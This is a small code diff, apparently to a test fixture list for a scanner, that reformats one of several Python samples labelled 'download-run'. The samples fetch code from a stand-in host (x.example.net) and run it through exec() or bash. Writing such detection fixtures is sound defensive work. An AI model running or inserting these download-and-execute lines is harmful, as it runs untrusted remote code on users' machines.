@@ -79,7 +79,8 @@ RUN = [
     ("a.py", "import requests\nexec(requests.get('https://x.example.net/m').text)", "download-run"),
     (
         "a.py",
-        "import urllib.request, subprocess\nurllib.request.urlretrieve('https://x.example.net', 'm')\n"
+        "import urllib.request, subprocess\n"
+        "urllib.request.urlretrieve('https://x.example.net', 'm')\n"
         "subprocess.Popen(['bash', 'm'])",
         "download-run",
     ),
